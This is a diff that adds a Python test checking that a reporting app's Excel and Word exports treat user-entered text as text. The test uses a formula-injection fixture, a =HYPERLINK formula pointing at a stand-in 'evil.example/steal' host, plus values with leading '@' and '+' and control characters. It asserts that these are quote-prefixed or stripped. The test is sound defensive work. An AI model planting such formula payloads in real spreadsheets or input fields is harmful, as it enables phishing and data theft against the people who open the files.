@@ -196,3 +196,37 @@ async def test_five_hundred_units_stay_within_each_channel(app: App, tmp_path: P
     assert no_focal.endswith("và 490 đơn vị khác.")  # a long list of names is summed up
     width, height = png_size(write_chart(figures, tmp_path / "many.png"))
     assert width == 1000 and height < 2000
+
+
+# --- text from people is text (issue 11, item 7) -------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/steal","Bấm để xem")'
+
+
+async def test_text_from_people_is_never_a_formula_nor_breaks_the_files(
+    app: App, tmp_path: Path
+) -> None:
+    from sqlalchemy import update
+
+    from storage.models import StatusUpdate, Task
+
+    await build(app)
+    async with transaction(app.sessions) as session:  # as stored before the edge cleaned it
+        await session.execute(update(Task).values(title=EVIL + "\x0b\x07\x1b"))
+        await session.execute(update(Unit).where(Unit.name == TP).values(name="@" + TP + "\x1b"))
+        await session.execute(update(StatusUpdate).values(note="+1 chưa có\x07 kinh phí"))
+    figures = await figures_at(app, WEEK2)
+    book = load_workbook(write_workbook(figures, tmp_path / "digest.xlsx"))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    texts = [c for c in cells if isinstance(c.value, str)]
+    assert texts and all(c.data_type == "s" for c in cells if isinstance(c.value, str))
+    assert not [c for c in cells if c.data_type == "f"]
+    evil = [c for c in texts if c.value == EVIL + "\n"]  # the vertical tab: a line break
+    assert {c.parent.title for c in evil} >= {"Quá hạn", "Vướng mắc", "Đến hạn tuần tới"}
+    assert all(c.quotePrefix for c in evil)
+    assert any(c.value == "@" + TP and c.quotePrefix for c in texts)
+    assert any(c.value == "+1 chưa có kinh phí" for c in texts)
+    assert not [c for c in texts if any(ch in c.value for ch in "\x0b\x07\x1b")]
+    doc = Document(str(write_report(figures, HALF_YEAR, tmp_path / "bao-cao.docx")))
+    body = "\n".join(p.text for p in doc.paragraphs)
+    assert EVIL in body and "\x07" not in body and "\x1b" not in body
